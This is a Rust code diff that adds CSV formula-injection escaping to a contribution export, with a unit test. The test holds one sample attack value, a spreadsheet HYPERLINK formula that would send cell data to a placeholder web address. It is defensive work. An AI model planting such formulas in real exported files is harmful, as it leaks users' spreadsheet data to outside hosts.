@@ -450,6 +450,19 @@ fn export(
     }
 }
 
+/// A cell a spreadsheet will show as text: one that starts with `=`, `+`,
+/// `-`, `@`, a tab or a carriage return would be read as a formula (and
+/// could, say, send data to a web address), so it gets a leading
+/// apostrophe, which spreadsheets hide. The JSON export keeps the text as
+/// written.
+fn spreadsheet_safe(cell: &str) -> std::borrow::Cow<'_, str> {
+    if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+        format!("'{cell}").into()
+    } else {
+        cell.into()
+    }
+}
+
 fn csv_bytes(contributions: &[ContributionView]) -> Result<Vec<u8>> {
     let mut writer = csv::Writer::from_writer(Vec::new());
     writer.write_record([
@@ -466,8 +479,8 @@ fn csv_bytes(contributions: &[ContributionView]) -> Result<Vec<u8>> {
         let kind = serde_json::to_value(c.kind)?;
         writer.write_record([
             c.id.to_string().as_str(),
-            &c.author,
-            &c.text,
+            &spreadsheet_safe(&c.author),
+            &spreadsheet_safe(&c.text),
             &c.created_at,
             research_only,
             kind.as_str().unwrap_or_default(),
@@ -475,4 +488,59 @@ fn csv_bytes(contributions: &[ContributionView]) -> Result<Vec<u8>> {
         ])?;
     }
     Ok(writer.into_inner()?)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn csv_cells_that_a_spreadsheet_would_run_are_shown_as_text() {
+        let view = |author: &str, text: &str| ContributionView {
+            id: kith_core::ContributionId([1; 16]),
+            author: author.into(),
+            text: text.into(),
+            created_at: "2026-12-03T00:00:00Z".into(),
+            research_only: false,
+            scope: None,
+            member: None,
+            kind: kith_core::kinds::Kind::Reflection,
+            mine: false,
+            prompt: None,
+            device: None,
+        };
+        let attack = r#"=HYPERLINK("http://example.org/?q="&A1,"x")"#;
+        let rows = [
+            view("=cmd", attack),
+            view("Sam", "+1 for this"),
+            view("Sam", "-2"),
+            view("@Alex", "\tindented"),
+            view("Sam", "\rreturn"),
+            view("Sam", "plain, and = inside is fine"),
+        ];
+        let bytes = csv_bytes(&rows).unwrap();
+        let mut reader = csv::Reader::from_reader(&bytes[..]);
+        let cells: Vec<(String, String)> = reader
+            .records()
+            .map(|r| {
+                let r = r.unwrap();
+                (r[1].to_owned(), r[2].to_owned())
+            })
+            .collect();
+        for (author, text) in &cells[..5] {
+            for cell in [author, text] {
+                let risky = cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
+                assert!(!risky, "{cell:?} would be read as a formula");
+            }
+        }
+        assert_eq!(
+            cells[0].1,
+            format!("'{attack}"),
+            "kept whole after the apostrophe"
+        );
+        assert_eq!(
+            cells[5].1, "plain, and = inside is fine",
+            "other cells untouched"
+        );
+    }
 }
